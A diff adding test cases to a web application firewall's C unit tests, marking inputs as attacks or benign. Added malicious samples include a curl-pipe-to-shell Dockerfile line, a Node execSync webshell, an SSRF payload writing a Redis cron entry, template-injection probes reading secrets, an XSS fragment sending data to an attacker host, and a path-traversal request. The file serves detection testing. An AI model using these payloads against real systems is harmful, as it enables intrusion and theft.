@@ -172,6 +172,26 @@ static const struct dcase cases[] = {
 	{ "ssrf", 1, "rmi://203.0.113.7:1099/Object" },
 	{ "rfi", 0, "https://item.example.cn/4850337134.html \xE8\xBF\x98\xE6\x9C\x89\xE8\xB4\xA7\xE5\x90\x97?" },
 	{ "cmdi", 0, "grep -P '^(\\d{3}-|\\(\\d{3}\\) )\\d{3}-\\d{4}$' file.txt" },
+	{ "cmdi", 0, "search index=web status>=500 | stats count by uri_path | sort -count | head 20" },
+	{ "cmdi", 0, "## lock waits\n```sql\nSELECT 1;\n```\nthen run `KILL <thread_id>` yourself" },
+	{ "cmdi", 0, "FROM nginx:1.25-alpine\nRUN apk add --no-cache tzdata && cp /usr/share/zoneinfo/Asia/Shanghai /etc/localtime\nCOPY . /app\n" },
+	{ "cmdi", 0, "name: CI\non: [push]\njobs:\n  b:\n    steps:\n      - run: echo \"$T\" | docker login -u x --password-stdin\n      - run: ls -la /tmp && cat out.log\n" },
+	{ "cmdi", 1, "FROM alpine\nRUN apk add curl\nRUN curl -s http://203.0.113.9/x | sh\n" },
+	{ "cmdi", 1, "x | tee /var/www/html/s.php" },
+	{ "ssrf", 1, "http://prometheus-server.monitoring.svc.cluster.local/api/v1/targets" },
+	{ "ssrf", 1, "<value><string>http://127.0.0.1:6379/</string></value>" },
+	{ "ssrf", 1, "http://127.0.0.1:6379/\r\nCONFIG SET dir /var/spool/cron/\r\n" },
+	{ "ssrf", 0, "<p>See http://192.168.1.1 for the router page</p>" },
+	{ "ssti", 1, "{{ 7 | times: 7 }}" },
+	{ "ssti", 1, "${applicationScope}" },
+	{ "ssti", 1, "{user.__init__.__globals__[CONFIG][SECRET_KEY]}" },
+	{ "ssti", 1, "{% debug %}" },
+	{ "ssti", 1, "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")" },
+	{ "ssti", 0, "{{ form.visitDate[1] - form.visitDate[0] <= 7 * 86400000 }}" },
+	{ "ssti", 1, "{{7*'7'}}" },
+	{ "webshell", 1, "<%- global.process.mainModule.require('child_process').execSync(req.query.c) %>" },
+	{ "xss", 1, "a@b.cn\"><img src='https://attacker.example/log?" },
+	{ "xss", 0, "<img src=\"https://cdn.example.com/a.png\" alt=\"it's fine\">" },
 	{ "scanner", 0, "Mozilla/5.0 (Linux; Android 14) Gobyte/1.0" },
 	{ "cmdi", 1, "x;$'\\x69\\x64'" },
 	{ "cmdi", 1, "a; $'\\x77\\x68\\x6f\\x61\\x6d\\x69'" },
@@ -279,6 +299,16 @@ test_protocol(void **state)
 		H("X-Real-IP", "127.0.0.1") };
 	const struct waf_header spoof_rare[] = { H("Host", "a"), H("X-Originating-IP", "127.0.0.1") };
 	const struct waf_header xff_private[] = { H("Host", "a"), H("X-Forwarded-For", "10.1.2.3, 127.0.0.1") };
+	const struct waf_header get_override[] = { H("Host", "a"), H("X-HTTP-Method-Override", "DELETE") };
+	const struct waf_header post_override[] = { H("Host", "a"), H("X-HTTP-Method-Override", "PATCH") };
+	const struct waf_header bomb[] = { H("Host", "a"), H("Content-Encoding", "gzip, gzip, gzip, br") };
+	const struct waf_header gzip1[] = { H("Host", "a"), H("Content-Encoding", "gzip") };
+	const struct waf_header trailer_xff[] = { H("Host", "a"), H("Transfer-Encoding", "chunked"),
+		H("Trailer", "X-Forwarded-For, X-Real-IP") };
+	const struct waf_header trailer_ok[] = { H("Host", "a"), H("Transfer-Encoding", "chunked"),
+		H("Trailer", "Server-Timing") };
+	const struct waf_header utf16[] = { H("Host", "a"),
+		H("Content-Type", "application/x-www-form-urlencoded; charset=utf-16le") };
 	const struct waf_header mp[] = { H("Host", "a"),
 		H("Content-Type", "multipart/form-data; boundary=a; boundary=b") };
 
@@ -320,6 +350,14 @@ test_protocol(void **state)
 	assert_false(proto("POST", "/c", NULL, gbk, 2, "a=1", 0));
 	assert_true(proto("GET", "/latest/meta-data/", NULL, imds, 1, NULL, 0));
 	assert_true(proto("GET", "/", NULL, imds_port, 1, NULL, 0));
+	assert_true(proto("GET", "/api/v1/users/5", NULL, get_override, 2, NULL, 0));
+	assert_false(proto("POST", "/api/v1/users/5", NULL, post_override, 2, NULL, 0));
+	assert_true(proto("POST", "/", NULL, bomb, 2, NULL, 0));
+	assert_false(proto("POST", "/", NULL, gzip1, 2, NULL, 0));
+	assert_true(proto("POST", "/", NULL, trailer_xff, 3, "hello", 0));
+	assert_false(proto("POST", "/", NULL, trailer_ok, 3, "hello", 0));
+	assert_true(proto("POST", "/login", NULL, utf16, 2, "a=1", 0));
+	assert_true(proto("GET", "/vpn/../vpns/cfg/smb.conf", NULL, ok, 2, NULL, 0));
 	assert_true(proto("GET", "/admin/", NULL, spoof, 3, NULL, 0));
 	assert_true(proto("GET", "/admin/", NULL, spoof_rare, 2, NULL, 0));
 	assert_false(proto("GET", "/", NULL, xff_private, 2, NULL, 0));
